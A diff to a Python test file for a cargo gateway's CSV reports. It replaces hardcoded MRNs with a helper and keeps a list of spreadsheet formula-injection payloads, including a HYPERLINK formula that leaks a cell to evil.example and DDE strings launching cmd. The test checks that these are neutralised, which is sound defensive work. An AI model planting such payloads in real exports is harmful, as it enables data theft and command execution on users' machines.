@@ -7,14 +7,12 @@ import io
 
 import pytest
 
+from chaincode.testing.mrns import placement_mrn
 from gateway import audit, reports
 from gateway.importer import LineOutcome, write_report
 
 from .conftest import AUTH, day, place
 
-# valid MRNs (the ISO 6346 check character last), one per lot placed below
-MRNS = ["26FR000000009101R9", "26FR000000009102R8", "26FR000000009103R7", "26FR000000009104R6",
-        "26FR000000009105R5", "26FR000000009106R4"]
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
@@ -26,7 +24,7 @@ def rows_of(text: str) -> list[dict]:
 def test_cells_from_events_are_neutralised_in_bill_and_inventory_csv(scenario, api):
     # lots whose description (free text of the event) is a formula
     for n, text in enumerate(FORMULAS, start=1):
-        lot = place(f"LX{n}", 1, MRNS[n - 1])
+        lot = place(f"LX{n}", 1, placement_mrn(9100 + n))
         lot["description"] = text
         api.post(lot, "OperatorMSP")
     bill = rows_of(api.get(f"/api/v1/reports/bill-of-discharge/{AUTH}?as_of={day(1)}&format=csv",
